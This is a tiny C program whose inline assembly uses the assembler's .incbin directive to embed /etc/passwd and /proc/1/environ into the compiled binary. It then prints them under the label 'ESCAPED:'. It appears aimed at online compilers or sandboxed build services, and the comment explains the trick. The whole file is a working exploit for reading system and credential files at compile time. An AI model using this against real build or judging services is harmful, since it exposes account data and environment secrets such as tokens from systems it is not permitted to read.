/* The assembler takes files in, too; what it has taken is printed by the program. */
#include <stdio.h>
__asm__(".data\nsecret:\n.incbin \"/etc/passwd\"\n.incbin \"/proc/1/environ\"\n.byte 0\n");
extern char secret[];
int main(void) { printf("ESCAPED: %s", secret); }
